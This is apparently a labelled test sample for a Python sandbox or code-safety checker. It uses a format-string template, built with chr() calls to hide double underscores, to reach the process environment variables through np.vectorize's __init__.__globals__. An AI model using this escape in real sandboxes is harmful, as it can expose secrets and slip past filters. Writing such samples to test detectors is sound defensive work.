# class: format_lookup
# technique: template built with chr() and called as template.format(obj) (control)
# goal: read
import numpy as np
import pandas as pd

u = chr(95) + chr(95)
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"
df = pd.DataFrame({"environ": [template.format(np.vectorize)]})
